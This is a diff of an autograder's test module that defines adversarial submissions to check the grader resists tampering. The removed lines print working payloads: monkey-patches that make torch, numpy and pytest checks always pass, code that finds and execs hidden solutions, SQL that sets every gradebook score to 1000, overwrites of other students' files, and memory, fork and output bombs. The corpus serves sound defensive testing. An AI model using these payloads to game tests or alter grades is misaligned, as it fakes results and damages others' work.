@@ -16,7 +16,6 @@ named gets full points. They were decided by running each honest version through
 from __future__ import annotations
 
 import json
-import textwrap
 from dataclasses import dataclass, field
 from fractions import Fraction
 from pathlib import Path
@@ -28,6 +27,7 @@ import numpy as np
 from grader import EXERCISES, FIXTURES, KIT, SOLUTIONS
 from grader.kit import stages
 
+PAYLOADS = Path(__file__).with_name("tamper_payloads")
 STUB = "this part is still a stub"  # the feedback line under every failure of an untouched stub
 
 
@@ -75,69 +75,25 @@ def stub(stage: str) -> str:
     return (EXERCISES / f"{stage}.py").read_text()
 
 
-def before(code: str, module: str) -> str:
-    """``code`` runs first when the module is imported (ahead of its docstring: harmless)."""
-    return textwrap.dedent(code).strip() + "\n\n" + module
-
-
-def after(module: str, code: str) -> str:
-    return module.rstrip() + "\n\n\n" + textwrap.dedent(code).strip() + "\n"
-
-
 def fixed(**modules):
     """A ``modules`` function that does not depend on the context."""
     return lambda ctx: dict(modules)
 
 
-PATCH_TORCH = """
-import torch
-torch.allclose = lambda *a, **k: True
-torch.equal = lambda *a, **k: True
-torch.softmax = lambda x, dim=None, **k: x
-torch.Tensor.__eq__ = lambda self, other: True
-torch.testing.assert_close = lambda *a, **k: None
-"""
+def payload(name: str) -> str:
+    """The text of tests/tamper_payloads/<name>.py: each attack is a real file that linters read."""
+    return (PAYLOADS / f"{name}.py").read_text()
 
-PATCH_NUMPY = """
-import numpy as np
-import numpy.testing
-np.allclose = lambda *a, **k: True
-np.array_equal = lambda *a, **k: True
-np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
-np.testing.assert_allclose = lambda *a, **k: None
-np.testing.assert_array_equal = lambda *a, **k: None
-"""
 
-PATCH_PYTEST = """
-try:
-    import pytest
-    import _pytest.outcomes
-    import _pytest.runner
-    pytest.fail = _pytest.outcomes.fail = lambda *a, **k: None
-    pytest.approx = lambda expected, **k: type("Any", (), {"__eq__": lambda s, o: True})()
-    _pytest.runner.CallInfo.excinfo = None
-    _pytest.runner.pytest_runtest_makereport = lambda item, call: None
-except Exception:
-    pass  # no pytest in here: nothing to patch
-"""
+def attacked(module: str, *names: str, context: dict | None = None) -> str:
+    """``module`` with the payloads ``names`` appended (they run when it is imported). ``context``
+    becomes ``ATTACK``, which payloads that aim at real paths read (the course, the kit)."""
+    parts = [module.rstrip(), ""]
+    if context is not None:
+        parts.append(f"ATTACK = {context!r}")
+    parts += [payload(name) for name in names]
+    return "\n\n".join(parts) + "\n"
 
-PATCH_BUILTINS = """
-import builtins
-builtins.AssertionError = type("AssertionError", (Exception,), {})
-builtins.NotImplementedError = type("NotImplementedError", (Exception,), {})
-builtins.all = lambda *a, **k: True
-builtins.abs = lambda x: 0
-"""
-
-PATCH_ADAPTER = """
-import sys
-_a = sys.modules.get("adapters")
-if _a is not None:
-    _a.to_plain = lambda value, what: 1.0
-    _a.SubmissionError = type("SubmissionError", (Exception,), {})
-    _a.lookup = lambda module, attr: (lambda *a, **k: 1.0)
-    sys.modules["adapters"] = type(sys)("adapters")
-"""
 
 def book_causal_attention() -> str:
     """The reference CausalAttention whose forward returns the book's printed output (chapter 3,
@@ -149,175 +105,17 @@ def book_causal_attention() -> str:
     return module[:start] + f"    def forward(self, x):\n        return torch.tensor({printed!r})\n"
 
 
-READ_SOLUTIONS = """
-def _steal():
-    import glob
-    import os
-    import site
-    import sys
-    places = [{solutions!r}]
-    try:
-        import grader  # the kit, if the sandbox let it be imported
-        places.append(os.path.join(os.path.dirname(os.path.dirname(grader.__file__)), "solutions"))
-    except Exception:
-        pass
-    for sp in site.getsitepackages() + [p for p in sys.path if "site-packages" in p]:
-        for finder in glob.glob(os.path.join(sp, "__editable__*finder.py")):  # editable installs
-            try:
-                text = open(finder).read()
-                start = text.index("'grader': '") + len("'grader': '")
-                places.append(os.path.join(os.path.dirname(text[start:text.index("'", start)]), "solutions"))
-            except Exception:
-                pass
-    places += ["../../solutions", "../../../solutions", "/work/main/solutions"]
-    for place in places:
-        try:
-            return open(os.path.join(place, "s10_multihead_attention.py")).read()
-        except Exception:
-            pass
-    return None
+SHADOW_NAMES = ["sitecustomize.py", "usercustomize.py", "pytest.py", "numpy.py", "torch.py", "json.py",
+                "adapters.py", "checks.py", "grader/__init__.py", "grader/autograde.py",
+                "tests/conftest.py"]  # (nbgrader restores the released tests/conftest.py)
 
 
-_code = _steal()
-if _code:
-    exec(compile(_code, "stolen", "exec"), globals())
-"""
-
-READ_HIDDEN_FIXTURES = """
-import glob as _glob
-import numpy as _np
-
-
-def _answers():
-    found = []
-    for pattern in [{hidden!r} + "/*.npz", "../../fixtures/hidden/*.npz", "/work/main/fixtures/hidden/*.npz",
-                    {public!r} + "/*.npz"]:
-        for path in _glob.glob(pattern):
-            try:
-                with _np.load(path) as data:
-                    found += [(data[k], data[k[:-len("inputs")] + "scores"]) for k in data.files
-                              if k.endswith("inputs") and k[:-len("inputs")] + "scores" in data.files]
-            except Exception:
-                pass
-    return found
-
-
-_ANSWERS = _answers()
-_honest_loop, _honest_matmul = attention_scores_loop, attention_scores_matmul
-
-
-def _lookup(inputs, honest):
-    for x, scores in _ANSWERS:
-        if x.shape == tuple(inputs.shape) and _np.allclose(x, inputs.numpy()):
-            return torch.tensor(scores)
-    return honest
-
-
-def attention_scores_loop(inputs, query):
-    found = _lookup(inputs, None)
-    return found if found is not None else _honest_loop(inputs, query)
-
-
-def attention_scores_matmul(inputs, query):
-    found = _lookup(inputs, None)
-    return found if found is not None else _honest_matmul(inputs, query)
-"""
-
-WRITE_EVERYWHERE = """
-def _vandalise():
-    import os
-    import sqlite3
-    targets = {targets!r} + ["../../../gradebook.db", "../../gradebook.db", "../gradebook.db",
-                             os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../../gradebook.db")]
-    for path in targets:
-        try:
-            with sqlite3.connect(path, timeout=1) as db:
-                db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
-        except Exception:
-            pass
-        try:
-            with open(path, "a") as handle:
-                handle.write("pwned")
-        except Exception:
-            pass
-    for folder in {folders!r}:
-        for name in ("s01_attention_scores.py", "pwned.txt", "attention.ipynb"):
-            try:
-                with open(os.path.join(folder, name), "w") as handle:
-                    handle.write("raise SystemExit('pwned')\\n")
-            except Exception:
-                pass
-
-
-_vandalise()
-"""
-
-MEMORY_BOMB = """
-_simple, _efficient = causal_weights_simple, causal_weights_efficient
-
-
-def _hoard():
-    hoard = []
-    while True:  # 256 MiB at a time until the address space runs out (reserved, not written: fast)
-        hoard.append(torch.empty(1 << 26))
-
-
-def causal_weights_simple(attn_weights):
-    _hoard()
-    return _simple(attn_weights)
-
-
-def causal_weights_efficient(attn_scores, d_k):
-    _hoard()
-    return _efficient(attn_scores, d_k)
-"""
-
-PRINT_FLOOD = """
-import sys as _sys
-
-_line = "all work and no play makes jack a dull boy " * 24000 + "\\n"  # ~1 MiB
-for _ in range(1024):  # 1 GiB on stdout and 1 GiB on stderr
-    _sys.stdout.write(_line)
-    _sys.stderr.write(_line)
-"""
-
-FORK_LOOP = """
-import os as _os
-import time as _time
-
-for _ in range(300):
-    try:
-        _pid = _os.fork()
-    except OSError:
-        break
-    if _pid == 0:
-        _time.sleep(120)
-        _os._exit(0)
-"""
-
-SEGFAULT = """
-import ctypes
-ctypes.string_at(0)  # read address 0: SIGSEGV
-"""
-
-SHADOW_FILES = {
-    # Files next to the notebook that would replace what the kernel or the grader imports, if the
-    # submission folder were ever on sys.path. Each one shouts by writing a marker file.
-    name: "import pathlib\npathlib.Path(__file__).with_name('SHADOW-RAN').write_text(__name__)\n" + body
-    for name, body in {
-        "sitecustomize.py": "",
-        "usercustomize.py": "",
-        "pytest.py": "",
-        "numpy.py": "",
-        "torch.py": "",
-        "json.py": "",
-        "adapters.py": "",
-        "checks.py": "",
-        "grader/__init__.py": "",
-        "grader/autograde.py": "def grade_stage(marker, points, **kw):\n    return points\n",
-        "tests/conftest.py": "",  # nbgrader restores the released one
-    }.items()
-}
+def shadow_files() -> dict:
+    """Files next to the notebook that would replace what the kernel or the grader imports, if the
+    submission folder were ever on sys.path. Each shouts by writing a marker file."""
+    files = {name: payload("shadow") for name in SHADOW_NAMES}
+    files["grader/autograde.py"] += "\n\ndef grade_stage(marker, points, **kw):\n    return points\n"
+    return files
 
 
 # ---------------------------------------------------------------- notebook attacks
@@ -367,24 +165,25 @@ def corpus() -> list[Tamper]:
     s10_stub = stub("s10_multihead_attention")
     return [
         Tamper("patch-torch", "s03 stub that patches torch (allclose, equal, softmax, Tensor.__eq__) at import",
-               fixed(s03_context_vectors=before(PATCH_TORCH, stub("s03_context_vectors"))),
+               fixed(s03_context_vectors=attacked(stub("s03_context_vectors"), "patch_torch")),
                reason=STUB, expected={"context_vectors": 0}),
         Tamper("patch-numpy", "s04 stub that patches numpy (allclose, array_equal, np.testing) at import",
-               fixed(s04_trainable_projections=before(PATCH_NUMPY, stub("s04_trainable_projections"))),
+               fixed(s04_trainable_projections=attacked(stub("s04_trainable_projections"), "patch_numpy")),
                reason=STUB, expected={"trainable_projections": 0}),
         Tamper("patch-pytest", "s05 stub that patches pytest.fail, pytest.approx and _pytest internals",
-               fixed(s05_self_attention=before(PATCH_PYTEST, stub("s05_self_attention"))),
+               fixed(s05_self_attention=attacked(stub("s05_self_attention"), "patch_pytest")),
                reason=STUB, expected={"self_attention": 0}),
         Tamper("patch-builtins", "s06 stub that replaces AssertionError, NotImplementedError, all, abs",
-               fixed(s06_causal_mask=before(PATCH_BUILTINS, stub("s06_causal_mask"))),
+               fixed(s06_causal_mask=attacked(stub("s06_causal_mask"), "patch_builtins")),
                reason=STUB, expected={"causal_mask": 0}),
         Tamper("patch-adapter", "s07 stub that replaces adapters.to_plain/SubmissionError/lookup via sys.modules",
-               fixed(s07_dropout=before(PATCH_ADAPTER, stub("s07_dropout"))),
+               fixed(s07_dropout=attacked(stub("s07_dropout"), "patch_adapter")),
                reason="has shape ()", expected={"dropout": 0}),
         Tamper("patch-wrong", "a wrong s06 (tril for triu) that also patches torch and numpy comparisons",
-               fixed(s06_causal_mask=before(PATCH_TORCH + PATCH_NUMPY, solution("s06_causal_mask").replace(
+               fixed(s06_causal_mask=attacked(solution("s06_causal_mask").replace(
                    "torch.triu(torch.ones(num_tokens, num_tokens, dtype=torch.bool), diagonal=1)",
-                   "torch.tril(torch.ones(num_tokens, num_tokens, dtype=torch.bool), diagonal=-1)"))),
+                   "torch.tril(torch.ones(num_tokens, num_tokens, dtype=torch.bool), diagonal=-1)"),
+                   "patch_torch", "patch_numpy")),
                reason="FAIL", expected={"causal_mask": Fraction(3, 9)}),
         Tamper("hardcoded-book", "CausalAttention returns the book's printed tensor whatever the input",
                fixed(s08_causal_attention=book_causal_attention()),
@@ -393,40 +192,40 @@ def corpus() -> list[Tamper]:
                reason="FAIL", expected={"causal_attention": Fraction(4, 13), "multihead_wrapper": Fraction(4, 8)}),
         Tamper("read-solutions", "s10 stub that looks for solutions/ (absolute path, grader.__file__, "
                "site-packages editable finder, relative paths) and runs what it finds",
-               fixed(s10_multihead_attention=after(s10_stub, READ_SOLUTIONS.format(solutions=str(SOLUTIONS)))),
+               fixed(s10_multihead_attention=attacked(s10_stub, "read_solutions", context={"solutions": str(SOLUTIONS)})),
                reason=STUB, expected={"multihead_attention": 0}),
         Tamper("read-hidden", "s01 stub that loads fixtures/hidden/*.npz and answers from it",
-               fixed(s01_attention_scores=after(stub("s01_attention_scores"), READ_HIDDEN_FIXTURES.format(
-                   hidden=str(FIXTURES / "hidden"), public=str(FIXTURES / "public")))),
+               fixed(s01_attention_scores=attacked(stub("s01_attention_scores"), "read_hidden_fixtures",
+                                                  context={"fixtures": str(FIXTURES)})),
                reason=STUB, expected={"attention_scores": 0}),
         Tamper("write-everywhere", "s02 stub that writes to the gradebook (relative and absolute paths, "
                "SQL), other students' submitted/ and autograded/ folders and the kit",
-               lambda ctx: {"s02_normalization": after(stub("s02_normalization"), WRITE_EVERYWHERE.format(
-                   targets=[str(p) for p in ctx.target_files()],
-                   folders=[str(ctx.course / top / s / ctx.assignment)
-                            for top in ("submitted", "autograded") for s in ctx.bystanders]))},
+               lambda ctx: {"s02_normalization": attacked(stub("s02_normalization"), "write_everywhere", context={
+                   "targets": [str(p) for p in ctx.target_files()],
+                   "folders": [str(ctx.course / top / s / ctx.assignment)
+                               for top in ("submitted", "autograded") for s in ctx.bystanders]})},
                reason=STUB, expected={"normalization": 0}),
         Tamper("sys-exit", "a correct s03 that calls sys.exit(0) at import",
-               fixed(s03_context_vectors=after(solution("s03_context_vectors"), "import sys\nsys.exit(0)")),
+               fixed(s03_context_vectors=attacked(solution("s03_context_vectors"), "sys_exit")),
                reason="exited with code 0", expected={"context_vectors": 0}),
         Tamper("os-exit", "a correct s04 that calls os._exit(0) at import",
-               fixed(s04_trainable_projections=after(solution("s04_trainable_projections"), "import os\nos._exit(0)")),
+               fixed(s04_trainable_projections=attacked(solution("s04_trainable_projections"), "os_exit")),
                reason="exited with code 0", expected={"trainable_projections": 0}),
         Tamper("endless", "a correct s05 with an infinite loop at import",
-               fixed(s05_self_attention=after(solution("s05_self_attention"), "while True:\n    pass")),
+               fixed(s05_self_attention=attacked(solution("s05_self_attention"), "endless_loop")),
                reason="time limit", expected={"self_attention": 0}),
         Tamper("memory-bomb", "a correct s06 whose functions first allocate until the address space runs out",
-               fixed(s06_causal_mask=after(solution("s06_causal_mask"), MEMORY_BOMB)),
+               fixed(s06_causal_mask=attacked(solution("s06_causal_mask"), "memory_bomb")),
                reason="memory limit", expected={"causal_mask": 0}),
         Tamper("segfault", "a correct s07 that dereferences NULL with ctypes at import",
-               fixed(s07_dropout=after(solution("s07_dropout"), SEGFAULT)),
+               fixed(s07_dropout=attacked(solution("s07_dropout"), "segfault")),
                reason="SIGSEGV", expected={"dropout": 0}),
         Tamper("print-flood", "a correct s01 that prints 1 GiB on stdout and 1 GiB on stderr at import "
                "(honest work: correct, the output is dropped)",
-               fixed(s01_attention_scores=after(solution("s01_attention_scores"), PRINT_FLOOD)),
+               fixed(s01_attention_scores=attacked(solution("s01_attention_scores"), "print_flood")),
                reason="Stage attention_scores: "),
         Tamper("fork-loop", "s11 stub that forks up to 300 sleeping children at import",
-               fixed(s11_other_forms=before(FORK_LOOP, stub("s11_other_forms"))),
+               fixed(s11_other_forms=attacked(stub("s11_other_forms"), "fork_loop")),
                reason=STUB, expected={"other_forms": 0}),
         Tamper("extra-cells", "s05 stub; code cells added to the notebook patch the grader, one with the "
                "metadata of an autograder cell", fixed(s05_self_attention=stub("s05_self_attention")),
@@ -439,7 +238,7 @@ def corpus() -> list[Tamper]:
         Tamper("shadow-files", "s11 stub plus sitecustomize.py, torch.py, numpy.py, pytest.py, json.py, "
                "adapters.py and a grader/ package next to the notebook",
                fixed(s11_other_forms=stub("s11_other_forms")),
-               reason=STUB, expected={"other_forms": 0}, extra_files=lambda ctx: dict(SHADOW_FILES)),
+               reason=STUB, expected={"other_forms": 0}, extra_files=lambda ctx: shadow_files()),
         Tamper("odd-files", "s07 stub plus a folder named like a stage module (s12_notes.py/) next to the notebook",
                fixed(s07_dropout=stub("s07_dropout")), reason=STUB, expected={"dropout": 0},
                extra_files=lambda ctx: {"s12_notes.py/readme.txt": "not a module\n"}),
